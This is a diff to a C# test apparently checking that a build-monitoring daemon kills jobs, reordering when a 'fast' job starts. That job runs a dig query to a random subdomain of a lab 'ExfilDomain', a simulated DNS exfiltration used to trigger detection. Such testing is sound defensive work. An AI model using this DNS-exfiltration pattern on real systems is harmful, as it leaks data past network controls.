@@ -34,8 +34,15 @@ public sealed class SlowKillTests(NetworkLabFixture fixture)
         var work = Directory.CreateTempSubdirectory("bs-slowkill-").FullName;
         var pidFile = Path.Combine(work, "pid");
         var go = Path.Combine(work, "go");
+        var goFast = Path.Combine(work, "go-fast");
         try
         {
+            // B is started (and placed) first, so that only its violation, not its start, falls in A's wait.
+            using var fast = BuildJob.Start(Lab, $"""
+                while [ ! -e {goFast} ]; do sleep 0.02; done
+                dig +short +tries=1 fast{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain} > /dev/null
+                sleep 30
+                """);
             using var slow = BuildJob.Start(Lab, $"""
                 sleep 120 & echo $! > {pidFile}
                 while [ ! -e {go} ]; do sleep 0.02; done
@@ -48,7 +55,7 @@ public sealed class SlowKillTests(NetworkLabFixture fixture)
             await File.WriteAllTextAsync(go, "");
             await daemon.WaitForAlertAsync(a => Str(a, "job") == slow.JobId && Str(a, "action") == "killed");
 
-            using var fast = BuildJob.Start(Lab, $"dig +short +tries=1 fast{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain} > /dev/null; sleep 30");
+            await File.WriteAllTextAsync(goFast, "");
             var result = await fast.WaitAsync(TimeSpan.FromSeconds(30));
             Assert.Equal(137, result.ExitCode);
             var fastReport = await ReportAsync(daemon, fast.JobId);
